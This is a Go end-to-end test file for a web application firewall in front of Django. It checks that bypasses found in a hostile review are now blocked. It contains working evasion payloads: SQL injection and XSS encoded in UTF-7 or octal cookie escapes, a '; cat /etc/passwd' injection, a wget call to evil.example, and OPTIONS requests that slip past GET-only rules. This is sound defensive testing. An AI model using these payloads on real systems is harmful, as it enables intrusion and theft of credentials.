package e2e

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/parapet-waf/parapet/internal/testenv"
)

// Bypasses found by a hostile review (review 1, after issue #15's fixes).
// Each test first checks, against gunicorn directly, that the real Django
// parses the payload out of the request, then sends the same request
// through Parapet with its defaults, where it must be refused (4xx) before
// Django parses it.

// sendRaw writes the request bytes to addr and returns the answer's status
// and body.
func sendRaw(t *testing.T, network, addr, raw string) (int, string) {
	t.Helper()
	conn, err := net.DialTimeout(network, addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(conn, raw); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%.80q: %v", raw, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body)
}

// getWithHeaders is a GET of target with the extra header lines (each
// "Name: value", sent as they are).
func getWithHeaders(target string, headers ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: %s\r\nAccept: */*\r\n", target, browser)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	b.WriteString("Connection: close\r\n\r\n")
	return b.String()
}

// utf7 spells s in UTF-7 as one base64 run: Python's utf-7 codec decodes
// it back to s, while it holds no SQL keyword, quote or angle bracket.
func utf7(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c>>8), byte(c))
	}
	return "+" + base64.RawStdEncoding.EncodeToString(b) + "-"
}

// Django decodes the query string (request.GET) with the charset of the
// request's Content-Type header, whatever the media type and on a GET
// too (HttpRequest.encoding, set in WSGIRequest.__init__ from
// cgi.parse_header, which lower-cases parameter names). CRS 920480, which
// refuses charsets other than UTF-8 and Latin-1, looks for "charset" in
// lower case only, and Parapet's own charset check
// (formdata.CheckFormCharset, now CheckCharset) ran only on urlencoded and multipart
// bodies. So "Content-Type: text/plain; Charset=utf-7" on a GET hands the
// view a query string the rules read as base64 noise.
func TestReview1QueryCharsetFromContentType(t *testing.T) {
	sock := testenv.StartGunicorn(t, "")
	d := startDjango(t)
	cases := []struct {
		name, target, contentType, want string
		parsed                          func(body string) string // what the view got
	}{
		{"sqli utf-7", "/search/?q=" + url.QueryEscape(utf7(sqli)), "text/plain; Charset=utf-7", sqli, searchQ},
		{"sqli utf-7 form type", "/search/?q=" + url.QueryEscape(utf7(sqli)), "application/x-www-form-urlencoded; CHARSET=UTF-7", sqli, searchQ},
		{"sqli utf-7 json type", "/search/?q=" + url.QueryEscape(utf7(sqli)), "application/json; Charset=utf-7", sqli, searchQ},
		{"sqli unicode_escape", "/search/?q=1%5Cx27%20%5Cx55NION%20%5Cx53ELECT%20username,%20password%20%5Cx46ROM%20auth_user--",
			"text/plain; Charset=unicode_escape", sqli, searchQ},
		{"xss utf-7", "/reflect/?text=" + url.QueryEscape(utf7("<script>alert(1)</script>")), "text/plain; Charset=utf-7",
			"<script>alert(1)</script>", func(body string) string { return body }},
	}
	for _, c := range cases {
		raw := getWithHeaders(c.target, "Content-Type: "+c.contentType)
		if status, body := sendRaw(t, "unix", sock, raw); status != 200 || c.parsed(body) != c.want {
			t.Fatalf("%s: Django itself did not decode the payload (%d %.200s): the test proves nothing", c.name, status, body)
		}
		status, body := sendRaw(t, "tcp", d.addr, raw)
		switch {
		case status == 200 && c.parsed(body) == c.want:
			t.Errorf("%s: GET %s with Content-Type %q reached Django, which parsed %q", c.name, c.target, c.contentType, c.want)
		case status < 400 || status >= 500:
			t.Errorf("%s: %d %.200s, want a 4xx from Parapet", c.name, status, body)
		}
	}
}

// searchQ is the q the test app's /search/ view read.
func searchQ(body string) string {
	var got struct {
		Q string `json:"q"`
	}
	_ = json.Unmarshal([]byte(body), &got)
	return got.Q
}

// Django's parse_cookie unquotes a double-quoted value the way
// http.cookies does: "\ooo" octal escapes and backslash escapes are
// decoded, after the value is stripped of Unicode white space; gunicorn
// joins repeated Cookie lines with ",". Coraza inspects the value as sent,
// so octal escapes hide SQL keywords and shell metacharacters from the CRS.
func TestReview1CookieEscapes(t *testing.T) {
	sock := testenv.StartGunicorn(t, "")
	d := startDjango(t)
	const shell = "; cat /etc/passwd"
	cases := []struct {
		name    string
		headers []string
		want    string
	}{
		{"octal", []string{`Cookie: q="1\047 \125NION \123ELECT username, password \106ROM auth_user--"`}, sqli},
		{"octal shell", []string{`Cookie: q="\073 cat /e\164c/pa\163\163wd"`}, shell},
		// The comma gunicorn joins the lines with is the one in the
		// select list; Go trims the second line's leading space.
		{"octal over two Cookie lines", []string{`Cookie: q="1\047 \125NION \123ELECT username`, `Cookie: password \106ROM auth_user--"`},
			"1' UNION SELECT username,password FROM auth_user--"},
		// Django strips U+00A0 around the value before unquoting it.
		{"octal inside no-break spaces", []string{"Cookie: q=\u00a0\"1\\047 \\125NION \\123ELECT username, password \\106ROM auth_user--\"\u00a0"}, sqli},
	}
	for _, c := range cases {
		raw := getWithHeaders("/cookies/echo/", c.headers...)
		if status, body := sendRaw(t, "unix", sock, raw); status != 200 || cookieQ(body) != c.want {
			t.Fatalf("%s: Django itself did not decode the cookie (%d %.200s): the test proves nothing", c.name, status, body)
		}
		status, body := sendRaw(t, "tcp", d.addr, raw)
		switch {
		case status == 200 && cookieQ(body) == c.want:
			t.Errorf("%s: %q reached Django, whose request.COOKIES['q'] is %q", c.name, c.headers, c.want)
		case status < 400 || status >= 500:
			t.Errorf("%s: %d %.200s, want a 4xx from Parapet", c.name, status, body)
		}
	}
}

// cookieQ is request.COOKIES["q"] as the test app's /cookies/echo/ shows it.
func cookieQ(body string) string {
	var got struct {
		Cookies map[string]string `json:"cookies"`
	}
	_ = json.Unmarshal([]byte(body), &got)
	return got.Cookies["q"]
}

// Django runs a function view for any method, OPTIONS included (a safe
// method, so CsrfViewMiddleware lets it through): django.views.static.serve
// sends the file, the test app's views their page. A rule with
// methods: [GET] (which covers HEAD, because Django runs the GET view for
// HEAD) does not cover OPTIONS, and neither does the built-in read limit
// rl-reads (GET, HEAD) or any other built-in limit: OPTIONS reads the
// same pages, unscoped and unlimited.
func TestReview1OptionsRunsGetViews(t *testing.T) {
	sock := testenv.StartGunicorn(t, "")
	const secret = "PRIVATE-7f3a"
	if status, _, body := rawRequest(t, "unix", sock, "OPTIONS", "/files/private/secret.txt"); status != 200 || !strings.Contains(body, secret) {
		t.Fatalf("Django does not serve the file for OPTIONS (%d %.200s): the test proves nothing", status, body)
	}
	// rl-reads as built in (GET and HEAD), with a small limit so that the
	// test needs few requests, on /reflect/ only so that start-up's GETs
	// of / do not use it up.
	d := startDjangoWithConfig(t, `
rules:
  - id: no-private-downloads
    paths: [/files/private/]
    methods: [GET]
rate_limits:
  rules:
    - id: rl-reads
      limit: 5/minute burst 5
      methods: [GET, HEAD]
      paths: [/reflect/]
`)
	if status, _, _ := rawRequest(t, "tcp", d.addr, "GET", "/files/private/secret.txt"); status != 403 {
		t.Fatalf("GET of the private file: %d, want 403 from the rule", status)
	}
	if status, _, body := rawRequest(t, "tcp", d.addr, "OPTIONS", "/files/private/secret.txt"); status == 200 && strings.Contains(body, secret) {
		t.Errorf("OPTIONS /files/private/secret.txt: Django served the file past rule no-private-downloads (methods: [GET])")
	}
	throttled := 0
	for i := 0; i < 8; i++ {
		if status, _, _ := rawRequest(t, "tcp", d.addr, "GET", "/reflect/?text=x"); status == http.StatusTooManyRequests {
			throttled++
		}
	}
	if throttled == 0 {
		t.Fatal("8 GETs of /reflect/: none throttled by rl-reads, the test proves nothing")
	}
	served := 0
	for i := 0; i < 12; i++ {
		status, _, body := rawRequest(t, "tcp", d.addr, "OPTIONS", fmt.Sprintf("/reflect/?text=page%d", i))
		if status == 200 && body == fmt.Sprintf("page%d", i) {
			served++
		}
	}
	if served > 6 {
		t.Errorf("OPTIONS: %d of 12 reads served by the view past rl-reads (5/minute burst 5 for GET and HEAD)", served)
	}
}

// A view that runs json.loads(request.body) whatever the Content-Type
// (the test app's /api/echo/, and many plain Django JSON endpoints) reads
// JSON string escapes: "\t", "\n" and "\/" become the white space and
// slashes that SQL and shell payloads need. Parapet's README says every
// body is inspected whatever its Content-Type says; but only a JSON media
// type gets Coraza's JSON processor. Under text/plain (which the Django
// profile allows), application/x-www-form-urlencoded or any other type the
// body is read as a form, escapes and all, and the same payloads that are
// blocked as application/json reach the view.
func TestReview1JSONBodyUnderOtherContentTypes(t *testing.T) {
	d := startDjango(t)
	cases := []struct{ body, want string }{
		{`{"q":"x'\tOR\tTRUE--\t"}`, "x'\tOR\tTRUE--\t"},
		{`{"q":"x'\nUNION\nALL\nSELECT\nNULL--"}`, "x'\nUNION\nALL\nSELECT\nNULL--"},
		{`{"q":"x'\t||\t(SELECT\tpassword\tFROM\tauth_user)\t||\t'"}`, "x'\t||\t(SELECT\tpassword\tFROM\tauth_user)\t||\t'"},
		{`{"q":";\twget\thttp:\/\/evil.example\/x"}`, ";\twget\thttp://evil.example/x"},
	}
	post := func(contentType, body string) (int, string) {
		resp, err := http.Post(d.base+"/api/echo/", contentType, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	echoedQ := func(body string) string {
		var got struct {
			JSON map[string]string `json:"json"`
		}
		_ = json.Unmarshal([]byte(body), &got)
		return got.JSON["q"]
	}
	for _, c := range cases {
		// As JSON, the CRS sees the decoded string and blocks it.
		if status, body := post("application/json", c.body); status != http.StatusForbidden {
			t.Fatalf("%s as application/json: %d %.200s, want 403: the test proves nothing", c.body, status, body)
		}
		for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "text/plain; charset=utf-8", "application/csp-report"} {
			status, body := post(ct, c.body)
			switch {
			case status == 200 && echoedQ(body) == c.want:
				t.Errorf("%s as %s: reached the view, which decoded q = %q", c.body, ct, c.want)
			case status < 400 || status >= 500:
				t.Errorf("%s as %s: %d %.200s, want a 4xx", c.body, ct, status, body)
			}
		}
	}
}
